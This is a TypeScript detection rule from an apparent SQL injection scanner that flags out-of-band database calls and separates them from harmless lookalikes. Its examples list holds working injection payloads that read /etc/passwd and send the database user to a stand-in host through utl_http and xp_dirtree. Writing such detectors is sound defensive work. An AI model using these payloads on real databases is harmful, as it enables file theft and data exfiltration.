import {
  isQuote,
  isWordOf,
  type SqlTokens,
  skipComments,
  sqlToken,
} from '../../grammars/sql/sql-token.ts';
import { sqlWord } from '../../grammars/sql/sql-words.ts';
import { isStatementEnd, isWordAt } from '../../grammars/sql/statement-parts.ts';
import { hasAny, trait } from '../../grammars/sql/traits.ts';
import { outsideTrigger } from '../../grammars/sql/triggers.ts';
import { confidence } from '../../placement/confidence.ts';
import {
  type Call,
  isMentioned,
  outsideClasses,
  sqlArgument,
  strongestCall,
} from '../../placement/sql-call.ts';
import type { ValueRule } from '../rule.ts';

/** `load_file('/etc/passwd')`, `utl_http.request('http://x/'||user)`, `xp_dirtree '\\x\a'`. */
export const outOfBand: ValueRule = {
  id: 'sqli.out-of-band',
  severity: 'critical',
  score: confidence.certain,
  message: 'makes the database read or write a file or reach another machine',
  trigger: outsideTrigger,
  judge: (subject) => strongestCall(subject, outsideClasses, scoreOf),
  examples: [
    ...["'||utl_http.request('http://collect.example/'||user)||'", "(load_extension( ('x.so') ) )"],
    ...["exec master..xp_dirtree '\\\\\\\\collect.example\\\\x'", "(readfile(nullif('','')))"],
    ...["1 union select load_file('/etc/passwd')", "1 and pg_read_file('/etc/passwd')='x'"],
  ],
  lookalikes: [
    ...['- Improved `examples/readfile.c`\n- Reworked (re)allocation', "readfile(join('a','b'))"],
    ...["fs.readFile('notes.txt', (err, text) => show(text))", 'Call readfile to read a file'],
    ...['err := os.WriteFile("notes.txt", data, 0o644)', 'see open(2), "readfile"(2) and close(2)'],
    'The xp_cmdshell procedure is off by default.',
    'load_file and dblink are names of functions',
  ],
};

function scoreOf(call: Call, tokens: SqlTokens): number {
  if (call.wordClass === sqlWord.serverProcedure) return scoreProcedure(call, tokens);
  if (isMentioned(call, tokens) || isMethod(call, tokens)) return confidence.hint;
  const next = skipComments(tokens, call.at + 1);
  if (tokens.kind[next] === sqlToken.dot && isScript(call.at, tokens)) return confidence.hint;
  if (tokens.kind[next] === sqlToken.dot)
    return hasAny(call.expression, sqlArgument) || call.expression.operands > 0
      ? confidence.certain
      : confidence.hint;
  let inner = skipComments(tokens, next + 1);
  while (tokens.kind[inner] === sqlToken.open) inner = skipComments(tokens, inner + 1);
  const first = tokens.kind[inner] as number;
  if (isManualPage(call, tokens, inner)) return confidence.hint;
  if (isQuote(first) || first === sqlToken.number) return confidence.certain;
  // `readfile(nullif('',''))`: functions of SQL and constants
  const { traits, calls } = call.expression;
  const isFixed = calls > 1 && (traits & trait.name) === 0;
  return isFixed || hasAny(call.expression, sqlArgument) ? confidence.certain : confidence.hint;
}

/** `fs.readFile('a.txt', …)`, `os.WriteFile(…)`: methods; SQLite's READFILE belongs to nothing. */
function isMethod(call: Call, tokens: SqlTokens): boolean {
  return call.before >= 1 && tokens.kind[call.before] === sqlToken.dot && isScript(call.at, tokens);
}

/** `readfile.c`: a function of SQLite and no package, so that nothing is called behind a dot. */
function isScript(at: number, tokens: SqlTokens): boolean {
  return isWordAt(tokens, at, 'readfile') || isWordAt(tokens, at, 'writefile');
}

/** `"readfile"(2)`: a page of a manual; no file is read whose name is a digit. */
function isManualPage({ at }: Call, tokens: SqlTokens, first: number): boolean {
  const isDigit = (tokens.end[first] as number) - (tokens.start[first] as number) === 1;
  return (
    isScript(at, tokens) &&
    isDigit &&
    tokens.kind[first] === sqlToken.number &&
    tokens.kind[first + 1] === sqlToken.close
  );
}

/** SQL names its procedures after EXEC or a database, or gives them a literal. */
function scoreProcedure(call: Call, tokens: SqlTokens): number {
  const isExec =
    isWordOf(tokens, call.before, sqlWord.exec) || tokens.kind[call.before] === sqlToken.dot;
  const next = skipComments(tokens, call.at + 1);
  const hasLiteral = isQuote(tokens.kind[next] as number) && tokens.gap[call.at + 1] === 1;
  if (isExec)
    return hasLiteral || isStatementEnd(tokens.kind[next] as number)
      ? confidence.certain
      : confidence.likely;
  return hasLiteral && tokens.kind[next] !== sqlToken.backtick
    ? confidence.strong
    : confidence.trace;
}
